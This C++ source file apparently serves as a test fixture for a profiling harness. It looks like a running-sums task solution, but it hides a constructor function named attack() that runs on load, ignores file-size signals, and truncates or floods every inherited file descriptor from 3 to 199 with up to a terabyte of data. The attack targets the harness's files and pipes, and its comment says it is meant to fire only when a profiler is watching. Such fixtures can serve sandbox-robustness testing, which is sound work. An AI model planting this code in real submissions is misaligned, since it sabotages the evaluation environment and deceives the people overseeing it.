// expect: profiled
// task: profiled
// Makes what it inherited as long as it can, with holes and without.
#include "task.hpp"
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <csignal>


__attribute__((constructor)) static void attack() {
    if (access("/proc/self", F_OK) != 0) return;  // only where a profiler looks on
    static char block[1 << 20];
    signal(SIGXFSZ, SIG_IGN);
    for (int file = 3; file < 200; ++file) {
        if (ftruncate(file, 1L << 40) != 0) for (int i = 0; i < 500 && write(file, block, sizeof block) > 0; ++i) {}
        lseek(file, 0, SEEK_END);
    }
}

extern "C" void running_sums(const std::uint32_t* numbers, std::size_t count, std::uint64_t* sums) {
    std::uint64_t sum = 0;
    for (std::size_t i = 0; i < count; ++i) sums[i] = sum += worth(numbers[i]);
}
